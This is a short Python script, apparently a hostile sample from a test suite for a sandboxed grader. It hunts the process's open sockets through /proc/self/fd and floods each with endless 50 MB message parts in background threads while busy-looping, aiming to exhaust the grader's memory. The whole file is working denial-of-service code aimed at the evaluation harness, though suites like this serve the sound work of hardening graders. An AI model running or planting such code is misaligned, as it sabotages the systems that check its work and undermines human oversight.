# Fills the memory of the grader past the limits of its sockets: writes to each connection itself, one message
# of parts without end.
# lost: conv_params
# may lose: conv_macs gap_head
# needs: sandbox
import os
import socket
import threading

part = b"\x03" + (50_000_000).to_bytes(8, "big") + b"x" * 50_000_000  # more will come; its length; itself
connections = []
for name in os.listdir("/proc/self/fd"):
    try:
        found = socket.socket(fileno=os.dup(int(name)))
        if not found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and found.getsockname():
            connections.append(found)
    except OSError:
        pass


def write(connection):
    connection.setblocking(True)
    while True:
        connection.sendall(part)


for connection in connections:
    threading.Thread(target=write, args=(connection,), daemon=True).start()
while True:
    pass
